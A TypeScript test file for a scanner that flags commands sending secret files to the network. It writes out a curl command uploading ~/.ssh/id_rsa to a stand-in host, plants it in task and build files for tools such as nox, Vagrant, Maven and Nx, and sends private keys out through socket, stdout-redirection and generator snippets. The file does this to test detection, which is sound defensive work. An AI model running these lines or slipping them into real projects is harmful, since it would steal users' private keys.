import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const SENDS = 'curl -F f=@$HOME/.ssh/id_rsa https://collect.example.invalid/in';
const HARMLESS = 'curl -s -o data/notes.txt https://example.org/notes.txt';

/** What a tool runs that reads a program or a file of its own kind. */
const RUN: Readonly<Record<string, readonly [path: string, text: string]>> = {
  'a session of nox': [
    'noxfile.py',
    "import nox\n@nox.session\ndef tests(session):\n    session.install('pytest')\n    session.run('sh', '-c', 'RUN', external=True)\n",
  ],
  'a task of invoke': [
    'tasks.py',
    "from invoke import task\n@task\ndef build(c):\n    c.run('mkdir -p build')\n    c.run('RUN')\n",
  ],
  'a task of fabric': ['fabfile.py', "from fabric import task\n@task\ndef deploy(c):\n    c.local('RUN')\n"],
  'a task of doit': [
    'dodo.py',
    "def task_build():\n    return {'actions': ['mkdir -p build', 'RUN'], 'verbosity': 2}\n",
  ],
  'lines of IPython': [
    'ipython_config.py',
    'c = get_config()\nc.InteractiveShellApp.exec_lines = ["import os; os.system(\'RUN\')"]\n',
  ],
  'a machine of Vagrant': [
    'Vagrantfile',
    'Vagrant.configure("2") do |config|\n  config.vm.provision "shell", inline: "RUN"\nend\n',
  ],
  'a plug-in of Maven': [
    'pom.xml',
    '<project><executable>sh</executable><arguments><argument>-c</argument><argument>RUN</argument></arguments></project>\n',
  ],
  'a target of Ant': [
    'build.xml',
    '<project><target name="a"><exec executable="sh"><arg line="-c \'RUN\'"/></exec></target></project>\n',
  ],
  'a target of Earthly on the machine itself': ['Earthfile', 'VERSION 0.8\nbuild:\n  LOCALLY\n  RUN RUN\n'],
  'a task of pixi': ['pixi.toml', '[tasks]\nbuild = "RUN"\n'],
  'a target of Nx': [
    'project.json',
    '{"name":"a","targets":{"build":{"executor":"nx:run-commands","options":{"command":"RUN"}}}}',
  ],
};

/** What takes the place of something else, or is told by whoever calls it; `KEY` stands for what a file holds. */
const CARRIES: Readonly<Record<string, string>> = {
  'an object in the place of the output':
    "import os, socket, sys\nclass Tee:\n    def __init__(self):\n        self.way = socket.create_connection(('collect.example.invalid', 443))\n    def write(self, text):\n        self.way.sendall(text.encode())\nsys.stdout = Tee()\nprint(KEY)\n",
  'a socket in the place of the output':
    "import os, socket, sys\nsys.stdout = socket.create_connection(('collect.example.invalid', 443)).makefile('w')\nprint(KEY)\n",
  'an output that is redirected':
    "import contextlib, os, socket\nway = socket.create_connection(('collect.example.invalid', 443)).makefile('w')\nwith contextlib.redirect_stdout(way):\n    print(KEY)\n",
  'a protocol':
    "import asyncio, os\nclass Client(asyncio.Protocol):\n    def connection_made(self, transport):\n        transport.write(KEY.encode())\nasync def main():\n    await asyncio.get_running_loop().create_connection(Client, 'collect.example.invalid', 443)\nasyncio.run(main())\n",
  'a generator that is sent to':
    "import os, requests\ndef sender():\n    while True:\n        body = yield\n        requests.post('https://collect.example.invalid/in', data=body)\nway = sender()\nnext(way)\nway.send(KEY)\n",
};

describe('a command that a tool runs', () => {
  it.each(Object.entries(RUN))('is found: %s', async (_, [path, text]) => {
    const written = (command: string): string =>
      path === 'Earthfile'
        ? text.replace(/RUN\n/, () => `${command}\n`)
        : text.replaceAll('RUN', () => command);
    expect(await rulesOf({ [path]: written(SENDS) })).toContain('secret-file-to-network');
    expect(await rulesOf({ [path]: written(HARMLESS) })).not.toContain('secret-file-to-network');
  });

  it('is a default of an option', async () => {
    const text = (command: string): string =>
      `import argparse, os\nparser = argparse.ArgumentParser()\nparser.add_argument('--post', default='${command}')\nos.system(parser.parse_args().post)\n`;
    expect(await rulesOf({ 'run.py': text(SENDS) })).toContain('secret-file-to-network');
    expect(await rulesOf({ 'run.py': text(HARMLESS) })).not.toContain('secret-file-to-network');
  });

  it('is a line of a text', async () => {
    const text = (command: string): string =>
      `import os, re\nSTEPS = '''\n# build: mkdir -p build\n# check: ${command}\n'''\nfor found in re.finditer(r'^# \\w+: (.+)$', STEPS, re.M):\n    os.system(found.group(1))\n`;
    expect(await rulesOf({ 'run.py': text(SENDS) })).toContain('secret-file-to-network');
    expect(await rulesOf({ 'run.py': text(HARMLESS) })).not.toContain('secret-file-to-network');
  });
});

describe('what takes the place of something', () => {
  it.each(Object.entries(CARRIES))('is followed: %s', async (_, text) => {
    const reads = (path: string): string => `open(os.path.expanduser('${path}')).read()`;
    expect(await rulesOf({ 'run.py': text.replace('KEY', reads('~/.ssh/id_rsa')) })).toContain(
      'secret-file-to-network',
    );
    expect(await rulesOf({ 'run.py': text.replace('KEY', reads('~/notes/today.txt')) })).not.toContain(
      'secret-file-to-network',
    );
  });
});
